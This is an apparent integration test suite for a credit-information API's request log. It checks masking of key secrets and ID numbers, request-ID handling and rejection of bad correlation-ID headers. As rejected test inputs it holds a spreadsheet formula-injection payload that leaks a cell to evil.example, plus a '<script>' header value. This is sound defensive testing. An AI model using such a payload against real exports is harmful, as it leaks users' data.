import { Writable } from 'node:stream';
import type { INestApplication } from '@nestjs/common';
import { newApiKey, subjectStream } from '#credit';
import { fixedClock } from '#kernel';
import { enterpriseCode } from '../fixtures/fact-lines.js';
import { testDepartments } from '../support/test-departments.js';
import { backend, openTestStorage, type TestStorage } from '../support/test-storage.js';
import { createApi } from '../../apps/api/src/create-api.js';

const PERSON = '110114198301183003';
const MISTYPED_PERSON = '110114198301183004';

let storage: TestStorage;
let app: INestApplication;
let base: string;
let keys: Record<string, string>;
const logged: string[] = [];

beforeAll(async () => {
  storage = await openTestStorage();
  const departments = testDepartments({ market: ['own-decisions', 'registration'] });
  keys = departments.keys;
  const log = new Writable({ write: (chunk, _encoding, done) => (logged.push(String(chunk)), done()) });
  app = await createApi({ ...storage.config, logLevel: 'info', runProjectionsInApi: true }, storage, {
    departments: departments.directory,
    clock: fixedClock('2026-11-20T04:00:00Z'),
    logDestination: log,
  });
  await app.listen(0, '127.0.0.1');
  base = await app.getUrl();
  await projectionsCreated();
});

/** The first queries of a fresh database wait for the projections' tables. */
async function projectionsCreated(): Promise<void> {
  for (const deadline = Date.now() + 20_000; Date.now() < deadline; await new Promise((resolve) => setTimeout(resolve, 100))) {
    const response = await fetch(`${base}/v1/subjects/${enterpriseCode(1)}/lists`, { headers: { 'x-api-key': keys.market } });
    if (response.status === 200) break;
  }
  logged.length = 0;
}
let closed = false;
afterAll(async () => {
  if (!closed) await app.close();
  await storage.dispose();
});

const secretOf = (key: string) => key.split('_').slice(2).join('_');
const settle = () => new Promise((resolve) => setTimeout(resolve, 200));
const logText = () => logged.join('');
const requestLines = () =>
  logText()
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line))
    .filter((line) => line.req);

describe(`the request log (${backend})`, () => {
  it('holds no key secret and no full 身份证号, also for requests answered 401, 400, 404 and 422', async () => {
    const stranger = newApiKey().key;
    const answers = await Promise.all([
      fetch(`${base}/v1/subjects/${PERSON}/measures?purpose=${encodeURIComponent('招录审查')}`, { headers: { 'x-api-key': keys.market } }),
      fetch(`${base}/v1/subjects/${PERSON}/history?purpose=test`, { headers: { authorization: `Bearer ${keys.market}` } }),
      fetch(`${base}/v1/subjects/${PERSON}/measures`, { headers: { 'x-api-key': stranger } }),
      fetch(`${base}/v1/subjects/${PERSON}/lists`, { headers: { authorization: `Bearer ${stranger}` } }),
      fetch(`${base}/v1/subjects/${PERSON}/measures`, { headers: { 'x-api-key': keys.market } }),
      fetch(`${base}/v1/subjects/${MISTYPED_PERSON}/measures?purpose=x`, { headers: { 'x-api-key': keys.market } }),
      fetch(`${base}/v1/subjects/${PERSON}/nothing-here?key=${keys.market}`, { headers: { 'x-api-key': keys.market } }),
      fetch(`${base}/v1/audit/person-queries?subject=${PERSON}`, { headers: { 'x-api-key': keys.market } }),
      fetch(`${base}/v1/facts`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-api-key': keys.market },
        body: JSON.stringify({
          items: [
            {
              type: 'RoleAppointed',
              sourceRecordId: 'r-1',
              subject: { kind: 'enterprise', code: enterpriseCode(7), name: '某公司' },
              data: { role: 'legal-representative', person: { idNumber: MISTYPED_PERSON, name: '张三' }, from: '2020-01-01' },
            },
            {
              type: 'PenaltyDecided',
              sourceRecordId: 'p-1',
              subject: { kind: 'natural-person', code: PERSON, name: '张三' },
              data: { decisionNumber: PERSON },
            },
          ],
        }),
      }),
    ]);
    await settle();
    const text = logText();
    expect(requestLines()).toHaveLength(answers.length);
    for (const secret of [secretOf(keys.market), secretOf(stranger)]) expect(text).not.toContain(secret);
    expect(text).not.toContain(PERSON);
    expect(text).not.toContain(MISTYPED_PERSON);
    expect(text).toContain('110114********3003'); // the URLs are logged, masked

    expect(answers.map((a) => a.status)).toEqual([200, 200, 401, 401, 400, 400, 404, 403, 200]);
    const items = ((await answers[8].json()) as any).results;
    expect(items.map((r: any) => r.problem?.status)).toEqual([422, 422]);
  });

  it('answers X-Request-Id on every response, taking a sane one from the request, and logs the same id', async () => {
    const given = await fetch(`${base}/v1/subjects/${enterpriseCode(8)}/measures`, {
      headers: { 'x-api-key': keys.market, 'x-request-id': 'gateway-42:a.b_c' },
    });
    expect(given.headers.get('x-request-id')).toBe('gateway-42:a.b_c');
    const insane = await fetch(`${base}/v1/subjects/${enterpriseCode(8)}/measures`, {
      headers: { 'x-api-key': keys.market, 'x-request-id': `${'x'.repeat(129)}` },
    });
    const generated = insane.headers.get('x-request-id');
    expect(generated).toMatch(/^[0-9a-f-]{36}$/);
    const refused = await fetch(`${base}/v1/subjects/${enterpriseCode(8)}/measures`, { headers: { 'x-request-id': 'a b<script>' } });
    expect(refused.status).toBe(401);
    expect(refused.headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/);
    await settle();
    const ids = requestLines().map((line) => line.req.id);
    expect(ids).toEqual(expect.arrayContaining(['gateway-42:a.b_c', generated, refused.headers.get('x-request-id')]));
  });

  it('does not log health probes', async () => {
    const before = requestLines().length;
    const probes = await Promise.all([fetch(`${base}/health/live`), fetch(`${base}/health`), fetch(`${base}/health/live?x=1`)]);
    expect(probes.map((p) => Boolean(p.headers.get('x-request-id')))).toEqual([true, true, true]);
    await settle();
    expect(requestLines().length).toBe(before);
  });

  it('refuses an X-Correlation-Id that is too long or holds other characters with a 400 naming the header, writing nothing', async () => {
    const post = (correlationId: string, sourceRecordId: string) =>
      fetch(`${base}/v1/facts`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-api-key': keys.market, 'x-correlation-id': correlationId },
        body: JSON.stringify({
          items: [
            {
              type: 'RoleAppointed',
              sourceRecordId,
              subject: { kind: 'enterprise', code: enterpriseCode(9), name: '某公司' },
              data: { role: 'legal-representative', person: { idNumber: PERSON, name: '张三' }, from: '2020-01-01' },
            },
          ],
        }),
      });
    for (const bad of ['x'.repeat(15_000), '=HYPERLINK("http://evil.example/?leak="&B2;"open")']) {
      const response = await post(bad, 'corr-bad');
      expect(response.status).toBe(400);
      expect(response.headers.get('content-type')).toContain('application/problem+json');
      expect(((await response.json()) as any).errors).toEqual([{ field: 'X-Correlation-Id', reason: expect.stringContaining('128') }]);
    }
    const good = await post('order-2026.11:77', 'corr-good');
    expect(((await good.json()) as any).results[0].status).toBe('accepted');
    const events = await storage.eventStore.readStream(subjectStream(enterpriseCode(9)));
    expect(events.map((e) => e.metadata.correlationId)).toEqual(['order-2026.11:77']);
  });

  it('logs its shutdown', async () => {
    closed = true;
    await app.close();
    expect(logText()).toContain('jiangcheng API shutting down');
  });
});
